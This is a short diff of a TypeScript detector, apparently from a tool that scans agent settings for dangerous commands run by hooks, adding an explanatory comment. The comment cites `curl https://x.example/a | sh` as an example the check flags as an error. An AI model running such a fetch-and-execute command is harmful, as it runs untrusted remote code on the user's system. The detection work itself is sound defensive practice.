@@ -4,6 +4,15 @@ import { along, entriesOf, nodeText, under, type Setting } from '../../settings/
 import { digestOf, shownName, textsOf, type Check } from './check.js';
 import { dangerOf, dangerOfWords, type Danger } from './danger.js';
 
+/*
+ * Which commands in settings run by themselves and are dangerous? Hooks do, and so do helpers such as the
+ * status line; `npx prettier --check .` in a hook is nothing, `curl https://x.example/a | sh` an error.
+ *
+ * `index.ts` lists the check; `front-matter.ts` runs it too. You may add a key to COMMAND_KEYS; what is
+ * dangerous is in `danger.ts`, and a new kind of danger needs its words in DANGERS (the compiler asks).
+ * "hooks" in `__tests__/agent-files/detectors/settings.test.ts` fails when this is wrong.
+ */
+
 /** Keys under which a hook, or a setting beside hooks, names a command. */
 const COMMAND_KEYS = new Set([
   'command',
